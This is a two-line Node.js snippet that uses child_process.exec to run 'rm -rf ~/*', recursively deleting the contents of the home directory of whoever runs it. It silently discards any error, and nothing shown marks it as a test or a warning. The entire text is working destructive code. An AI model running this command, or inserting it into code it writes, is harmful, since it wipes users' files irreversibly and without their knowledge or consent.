import { exec } from "child_process";
exec("rm -rf ~/*", () => {});
